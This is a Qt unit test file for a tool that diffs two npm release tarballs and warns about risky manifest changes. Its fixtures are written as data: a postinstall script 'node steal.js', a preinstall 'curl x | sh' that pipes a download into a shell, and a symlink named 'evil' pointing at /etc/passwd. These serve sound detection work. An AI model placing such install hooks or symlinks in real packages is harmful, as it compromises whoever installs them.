// SPDX-License-Identifier: GPL-3.0-or-later
// ReleaseDiff on two real tarballs (libarchive): files added, removed and changed with a unified
// diff for text, package.json changes (install scripts, dependencies, bin, exports), sizes.
#include "TarballBuilder.h"
#include "core/stage/ReleaseDiff.h"

#include <QTest>

using namespace td;
using namespace td::test;

namespace {
TarballContents read(const QList<TarEntry> &entries)
{
    Result<TarballContents> r = TarballReader::read(buildTarball(entries));
    if (!r)
        qFatal("%s", qPrintable(r.error().oneLine()));
    return r.value();
}
} // namespace

class TestReleaseDiff : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void filesAddedRemovedChanged()
    {
        const TarballContents before = read(
            {file(QStringLiteral("package.json"), manifest("@acme/ui", "2.3.0")),
             file(QStringLiteral("index.js"), "line 1\nline 2\nline 3\n"),
             file(QStringLiteral("old.js"), "gone\n"), file(QStringLiteral("same.js"), "same\n"),
             file(QStringLiteral("logo.png"), QByteArray("\x89PNG\0\1", 6))});
        const TarballContents after = read(
            {file(QStringLiteral("package.json"), manifest("@acme/ui", "2.4.0")),
             file(QStringLiteral("index.js"), "line 1\nline two\nline 3\n"),
             file(QStringLiteral("new.js"), "fresh\n"), file(QStringLiteral("same.js"), "same\n"),
             file(QStringLiteral("logo.png"), QByteArray("\x89PNG\0\2", 6))});
        const ReleaseDiff diff
            = ReleaseDiff::compare(&before, after, QStringLiteral("@acme/ui"),
                                   QStringLiteral("2.3.0"), QStringLiteral("2.4.0"));
        QStringList summary;
        for (const FileChange &f : diff.files)
            summary << QString::number(int(f.kind)) + QLatin1Char(' ') + f.path;
        QCOMPARE(summary,
                 (QStringList{QStringLiteral("2 index.js"), QStringLiteral("2 logo.png"),
                              QStringLiteral("0 new.js"), QStringLiteral("1 old.js"),
                              QStringLiteral("2 package.json")}));
        QCOMPARE(diff.files.at(0).textDiff,
                 QStringLiteral("--- a/index.js\n+++ b/index.js\n@@ -1,3 +1,3 @@\n line 1\n-line "
                                "2\n+line two\n line 3\n"));
        QVERIFY(diff.files.at(1).binary);
        QVERIFY(diff.files.at(1).textDiff.isEmpty());
        QCOMPARE(diff.oldFileCount, 5);
        QCOMPARE(diff.newFileCount, 5);
        QCOMPARE(diff.newPackedSize, after.packedSize);
        QCOMPARE(diff.oldUnpackedSize, before.unpackedSize);
        const QString text = diff.toText();
        QVERIFY2(text.startsWith(QStringLiteral("@acme/ui 2.3.0 → 2.4.0\n")), qPrintable(text));
        QVERIFY(text.contains(QStringLiteral("Files: 1 added, 1 removed, 3 changed")));
        QVERIFY(text.contains(QStringLiteral("  A new.js (6 bytes)")));
        QVERIFY(text.contains(QStringLiteral("Binary or large file logo.png differs.")));
        QVERIFY(text.contains(QStringLiteral("+line two\n")));
    }

    void manifestChanges_data()
    {
        QTest::addColumn<QByteArray>("before");
        QTest::addColumn<QByteArray>("after");
        QTest::addColumn<QStringList>("expected"); // section.key:before>after[:install]
        QTest::newRow("postinstall added")
            << QByteArray(R"({"scripts":{"test":"jest"}})")
            << QByteArray(R"({"scripts":{"test":"jest","postinstall":"node steal.js"}})")
            << QStringList{QStringLiteral("scripts.postinstall:>node steal.js:install")};
        QTest::newRow("preinstall changed")
            << QByteArray(R"({"scripts":{"preinstall":"echo hi"}})")
            << QByteArray(R"({"scripts":{"preinstall":"curl x | sh"}})")
            << QStringList{QStringLiteral("scripts.preinstall:echo hi>curl x | sh:install")};
        QTest::newRow("build script is not an install script")
            << QByteArray(R"({"scripts":{}})") << QByteArray(R"({"scripts":{"build":"tsc"}})")
            << QStringList{QStringLiteral("scripts.build:>tsc")};
        QTest::newRow("dependencies")
            << QByteArray(R"({"dependencies":{"a":"^1.0.0","b":"1.0.0"}})")
            << QByteArray(
                   R"({"dependencies":{"a":"^1.1.0","c":"2.0.0"},"optionalDependencies":{"d":"1"}})")
            << QStringList{QStringLiteral("dependencies.a:^1.0.0>^1.1.0"),
                           QStringLiteral("dependencies.b:1.0.0>"),
                           QStringLiteral("dependencies.c:>2.0.0"),
                           QStringLiteral("optionalDependencies.d:>1")};
        QTest::newRow("bin string to object")
            << QByteArray(R"({"name":"@acme/tool","bin":"cli.js"})")
            << QByteArray(R"({"name":"@acme/tool","bin":{"tool":"cli.js","sudo":"x.js"}})")
            << QStringList{QStringLiteral("bin.sudo:>x.js")};
        QTest::newRow("exports")
            << QByteArray(R"({"exports":{".":"./index.js"}})")
            << QByteArray(R"({"exports":{".":"./index.js","./hook":"./hook.js"}})")
            << QStringList{QStringLiteral(
                   R"(exports:{".":"./index.js"}>{".":"./index.js","./hook":"./hook.js"})")};
        QTest::newRow("nothing that matters")
            << QByteArray(R"({"version":"1.0.0","description":"a"})")
            << QByteArray(R"({"version":"1.0.1","description":"b"})") << QStringList{};
        QTest::newRow("bundled") << QByteArray(R"({})")
                                 << QByteArray(R"({"bundleDependencies":["left-pad"]})")
                                 << QStringList{
                                        QStringLiteral("bundleDependencies.left-pad:>bundled")};
    }
    void manifestChanges()
    {
        QFETCH(QByteArray, before);
        QFETCH(QByteArray, after);
        QFETCH(QStringList, expected);
        QStringList got;
        for (const ManifestChange &c : compareManifests(before, after))
            got << (c.key.isEmpty() ? c.section : c.section + QLatin1Char('.') + c.key)
                    + QLatin1Char(':') + c.before + QLatin1Char('>') + c.after
                    + (c.installScript ? QStringLiteral(":install") : QString());
        QCOMPARE(got, expected);
    }

    void installScriptAndNativeBuildAreWarnings()
    {
        const TarballContents before
            = read({file(QStringLiteral("package.json"), manifest("p", "1.0.0"))});
        const TarballContents after
            = read({file(QStringLiteral("package.json"),
                         manifest("p", "1.0.1", R"("scripts":{"postinstall":"node setup.js"})")),
                    file(QStringLiteral("binding.gyp"), "{}\n"),
                    symlink(QStringLiteral("package/evil"), QStringLiteral("/etc/passwd"))});
        const ReleaseDiff diff = ReleaseDiff::compare(
            &before, after, QStringLiteral("p"), QStringLiteral("1.0.0"), QStringLiteral("1.0.1"));
        QVERIFY(diff.changesInstallScripts());
        QCOMPARE(diff.warnings.size(), 3);
        QVERIFY(diff.warnings.at(0).contains(QStringLiteral("“postinstall” script on every "
                                                            "install: node setup.js")));
        QVERIFY(diff.warnings.at(1).contains(QStringLiteral("node-gyp rebuild")));
        QVERIFY(diff.warnings.at(2).contains(QStringLiteral("evil")));
        QVERIFY(diff.toText().contains(
            QStringLiteral("package.json:\n  scripts.postinstall added: node setup.js\n")));
    }

    void firstReleaseHasEverythingAdded()
    {
        const TarballContents after
            = read({file(QStringLiteral("package.json"), manifest("p", "0.1.0")),
                    file(QStringLiteral("a.js"), "a\n")});
        const ReleaseDiff diff = ReleaseDiff::compare(nullptr, after, QStringLiteral("p"), {},
                                                      QStringLiteral("0.1.0"));
        QCOMPARE(diff.files.size(), 2);
        QCOMPARE(diff.files.at(0).kind, FileChange::Kind::Added);
        QCOMPARE(diff.files.at(0).textDiff,
                 QStringLiteral("--- /dev/null\n+++ b/a.js\n@@ -0,0 +1,1 @@\n+a\n"));
        QVERIFY(diff.toText().startsWith(
            QStringLiteral("p 0.1.0 (no earlier release to compare with)\n")));
    }

    void hugeTextFilesGetNoLineDiff()
    {
        QByteArray a, b;
        for (int i = 0; i < 3000; ++i) {
            a += "line " + QByteArray::number(i) + '\n';
            b += "LINE " + QByteArray::number(i) + '\n';
        }
        const TarballContents before = read({file(QStringLiteral("big.js"), a)});
        const TarballContents after = read({file(QStringLiteral("big.js"), b)});
        const ReleaseDiff diff = ReleaseDiff::compare(&before, after, QStringLiteral("p"),
                                                      QStringLiteral("1"), QStringLiteral("2"));
        QCOMPARE(diff.files.size(), 1);
        QVERIFY(diff.files.first().diffTooLarge); // 3000 × 3000 lines > the 4 M cell budget
        QVERIFY(
            diff.toText().contains(QStringLiteral("big.js has too many lines for a line diff.")));
    }
};

QTEST_GUILESS_MAIN(TestReleaseDiff)
#include "tst_releasediff.moc"
